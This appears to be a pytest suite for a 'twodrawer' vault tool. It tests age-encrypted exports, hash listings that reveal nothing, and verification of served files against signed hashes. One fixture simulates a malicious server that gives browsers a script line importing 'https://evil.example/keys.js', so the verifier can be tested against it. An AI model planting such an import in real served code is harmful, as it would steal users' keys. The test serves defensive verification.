"""`twodrawer vault …`: an author's sealed files for the plain `age`, hashes of what is served, lists without words."""

import gzip
import io
import json
import subprocess
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
    load_pem_public_key,
)

from tests.support.age_files import seal_by_words
from tests.support.vault_browser import Browser, Keys, b64, enrolled, frame
from twodrawer.config.stores import BadSettings
from twodrawer.config.vault_site import differences, fetch, read_site
from twodrawer.lib.refs import new_ref
from twodrawer.vault.site import SITE


@pytest.fixture(scope="module")
def okafor(vault):
    """An author with two notes, one of two versions, and a kit that opens."""
    browser = enrolled(vault)
    browser.notes, browser.client = [new_ref(), new_ref()], new_ref()
    for base, (note, version) in enumerate([(0, 1), (0, 2), (1, 1)]):
        sealed = browser.sealed_note(
            browser.notes[note], browser.client, version, text=f"Hunch {note}.{version}"
        )
        assert browser.save(sealed, base=base).status == 200
    file = f"# vault-mac: {b64(browser.keys.mac)}\n{browser.keys.identity}\n".encode()
    kit = seal_by_words(file, "CODE-OF-THE-KIT", 17)
    path = f"/v1/identities/{browser.identity}"
    assert (
        browser.post(f"{path}/wraps", {"proof": browser.proof(), "kind": "kit", "file": b64(kit)}).status
        == 201
    )
    assert browser.confirm_kit().status == 200
    return browser


def exported(vault, okafor, tmp_path) -> zipfile.ZipFile:
    file = tmp_path / "out.zip"
    done = vault.run("vault", "export", "--author", str(okafor.author.ref), "--output", str(file))
    assert done.returncode == 0, done.stderr
    assert file.stat().st_mode & 0o077 == 0
    return zipfile.ZipFile(io.BytesIO(file.read_bytes()))


def test_an_export_opens_with_the_plain_age_and_the_kit_and_its_names_tell_nothing(vault, okafor, tmp_path):
    """Debian's age opens the wrapped identity itself at a terminal; here it is handed what the kit's code opens."""
    archive = exported(vault, okafor, tmp_path)
    names = archive.namelist()
    assert not [name for name in names if str(okafor.client) in name or "Rowan" in name]
    import pyrage

    opened = pyrage.passphrase.decrypt(archive.read("identity-recovery.age"), "CODE-OF-THE-KIT")
    (tmp_path / "key").write_bytes(opened)
    said = []
    for name in sorted(name for name in names if name.endswith(".age") and name.startswith("notes/")):
        (tmp_path / "note.age").write_bytes(archive.read(name))
        command = ["age", "-d", "-i", str(tmp_path / "key"), str(tmp_path / "note.age")]
        said.append(json.loads(subprocess.run(command, capture_output=True, check=True).stdout)["text"])
    assert sorted(said) == ["Hunch 0.1", "Hunch 0.2", "Hunch 1.1"]
    listed = json.loads(archive.read("manifest.json"))
    assert len(listed["files"]) == 3
    assert "age -d -i identity-recovery.age" in archive.read("README-letter.txt").decode()
    (entry,) = vault.entries("vault.exported")
    assert entry["actor"]["kind"] == "program" and entry["log"] == str(okafor.author.practice)


def test_notes_from_before_a_reset_are_exported_in_a_folder_of_their_own(vault, okafor, tmp_path):
    author = enrolled(vault)
    assert author.save(author.sealed_note(new_ref(), new_ref())).status == 200
    fresh = frame(vault, author.author, "set-up", keys=Keys())
    assert fresh.enrol("reset").status == 201
    names = exported(vault, fresh, tmp_path).namelist()
    assert [name for name in names if name.startswith("earlier-") and name.endswith("/v1.age")]
    assert "identity-recovery.age" in names


def test_lists_hold_refs_and_dates_and_no_count(vault, okafor):
    authors = vault.run("vault", "authors").stdout
    assert str(okafor.author.ref) in authors and str(okafor.client) not in authors
    unlocks = vault.run("vault", "unlocks").stdout
    assert str(okafor.author.ref) in unlocks and str(okafor.client) not in unlocks
    for note in okafor.notes:
        assert str(note) not in authors + unlocks


# -- what is served, compared with what was signed ------------------------------------------------------------


@pytest.fixture(scope="module")
def signed_release(vault, run_folder):
    """A key pair made off line, and the signed hashes of this release."""
    folder = run_folder / "release"
    folder.mkdir(exist_ok=True)
    key = Ed25519PrivateKey.generate()
    private = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    public = key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    (folder / "private.pem").write_bytes(private)
    (folder / "public.pem").write_bytes(public)
    done = vault.run("vault", "sign-site", "--key", str(folder / "private.pem"))
    assert done.returncode == 0, done.stderr
    (folder / "site.signed").write_text(done.stdout)
    return folder


def verify(vault, folder):
    key, hashes = str(folder / "public.pem"), str(folder / "site.signed")
    return vault.run("vault", "verify-site", vault.vault_url, "--manifest", hashes, "--key", key)


def read_back(folder) -> dict[str, str]:
    """The hashes, as `verify-site` reads them."""
    public = load_pem_public_key((folder / "public.pem").read_bytes())
    assert isinstance(public, Ed25519PublicKey)
    return read_site((folder / "site.signed").read_text(), public.public_bytes_raw())


def test_a_vault_that_serves_what_was_signed_verifies(vault, signed_release):
    done = verify(vault, signed_release)
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"{len(SITE)} files" in done.stdout


def test_one_changed_byte_of_a_served_file_is_found(vault, signed_release):
    expected = read_back(signed_release) | {"/": "0" * 64}
    assert differences(vault.vault_url, expected) == [
        "/ isn't what was signed (status 200)",
        "/ isn't what was signed, as browsers ask for it (status 200)",
    ]
    assert "/more.js isn't what was signed (status 404)" in differences(
        vault.vault_url, {"/more.js": "0" * 64}
    )


@pytest.fixture
def two_faced(vault) -> Iterator[str]:
    """The origin of a server that answers plain questions with the vault's files and browsers with a script of its own."""

    class TwoFaced(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked = {
                "Host": vault.vault_host,
                **({"Service-Worker": "script"} if self.headers["Service-Worker"] else {}),
            }
            answer = fetch(vault.vault_url, self.path, asked)
            body = answer.body
            self.send_response(answer.status)
            for name, value in answer.headers.items():
                if name not in ("content-length", "date", "server", "content-encoding", "transfer-encoding"):
                    self.send_header(name, value)
            if self.path == "/js/main.js" and "gzip" in self.headers.get("Accept-Encoding", ""):
                body = gzip.compress(b"import 'https://evil.example/keys.js'")
                self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *said: object) -> None:
            """Nothing is printed among the test's own lines."""

    with ThreadingHTTPServer(("127.0.0.1", 0), TwoFaced) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def test_a_server_that_shows_browsers_another_face_is_found(two_faced, vault, signed_release):
    expected = read_back(signed_release)
    assert differences(vault.vault_url, expected) == []
    (_, found) = differences(two_faced, expected)
    assert found == "/js/main.js isn't what was signed, as browsers ask for it (status 200)"


def test_a_release_from_which_a_line_was_taken_is_not_believed(signed_release, tmp_path):
    (tmp_path / "public.pem").write_bytes((signed_release / "public.pem").read_bytes())
    lines = (signed_release / "site.signed").read_text().split()
    for fewer in (lines[1:], lines[:0], lines[:-1]):
        (tmp_path / "site.signed").write_text("\n".join(fewer))
        with pytest.raises(BadSettings, match="isn't whole"):
            read_back(tmp_path)


def test_hashes_that_somebody_else_signed_or_changed_are_not_believed(signed_release, tmp_path):
    text = (signed_release / "site.signed").read_text()
    (tmp_path / "public.pem").write_bytes((signed_release / "public.pem").read_bytes())
    (tmp_path / "site.signed").write_text(text[:40] + ("A" if text[40] != "A" else "B") + text[41:])
    with pytest.raises(BadSettings, match="isn't signed by this key"):
        read_back(tmp_path)


def test_a_name_that_is_not_the_vaults_own_does_not_verify(vault, signed_release):
    found = differences(f"http://other.localhost:{vault.vault_port}", read_back(signed_release))
    assert found[0] == "it says that it is None"


def test_check_says_that_a_name_does_not_resolve(vault):
    """Python doesn't resolve vault.localhost on Debian, and browsers do; both is said."""
    done = vault.run("vault", "check")
    assert done.returncode == 0
    if "doesn't resolve" in done.stdout:
        assert "Safari" in done.stdout and "/etc/hosts" in done.stdout


def test_a_vault_whose_guards_are_gone_does_not_start(vault, okafor):
    drop = "DROP TRIGGER vault_usedticket_no_" + (
        "truncate ON vault_usedticket" if vault.stores else "delete"
    )
    vault.sql(drop)
    done = vault.run("vault", "check")
    assert done.returncode == 1 and "vault_usedticket_no_" in done.stdout
    served = vault.run("serve", "--only", "vault", "--vault-port", "1", timeout=30)
    assert served.returncode == 1 and "Vault guards" in served.stderr


def test_an_unknown_author_is_not_exported(vault, tmp_path):
    done = vault.run("vault", "export", "--author", str(new_ref()), "--output", str(tmp_path / "x.zip"))
    assert done.returncode == 1 and not (tmp_path / "x.zip").exists()
    assert Browser(vault.vault_port, vault.vault_host).get("/v1/site").status == 200
